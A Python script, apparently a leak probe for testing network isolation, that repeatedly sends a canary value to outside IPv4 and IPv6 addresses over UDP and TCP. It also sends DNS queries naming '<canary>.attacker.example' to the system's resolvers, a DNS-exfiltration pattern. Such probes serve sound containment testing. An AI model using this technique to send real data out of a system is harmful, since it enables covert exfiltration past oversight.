"""Leaks, again and again: datagrams and connections to addresses outside, names and queries with a canary in them.

argv: CANARY IPV4 IPV6 PORT SECONDS (0: until killed). Prints the number of rounds now and then, and at the end."""

import socket
import struct
import sys
import time

PAUSE_SECONDS = 0.05
CONNECT_SECONDS = 0.3
SAY_EVERY = 10


def question(canary, number):
    labels = [f"{canary}-{number}", "attacker", "example"]
    name = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
    return struct.pack("!6H", number & 0xFFFF, 0x0100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)


def datagram(family, data, address, port):
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.setblocking(False)
            sock.sendto(data, (address, port))
    except OSError:
        pass


def connection(family, data, address, port):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(CONNECT_SECONDS)
            sock.connect((address, port))
            sock.sendall(data)
    except OSError:
        pass


def resolvers():
    with open("/etc/resolv.conf", encoding="utf-8") as file:
        words = [line.split() for line in file]
    return [line[1] for line in words if line[:1] == ["nameserver"]]


def main():
    canary, v4, v6, port, seconds = *sys.argv[1:4], int(sys.argv[4]), float(sys.argv[5])
    data, end, number = canary.encode(), time.monotonic() + seconds, 0
    servers = [*resolvers(), v4]
    while seconds == 0 or time.monotonic() < end:
        for family, address in ((socket.AF_INET, v4), (socket.AF_INET6, v6)):
            datagram(family, data, address, port)
            connection(family, data, address, port)
        for server in servers:
            datagram(socket.AF_INET, question(canary, number), server, 53)
        number += 1
        if number % SAY_EVERY == 1:
            print(number, flush=True)
        time.sleep(PAUSE_SECONDS)
    print(number, flush=True)


main()
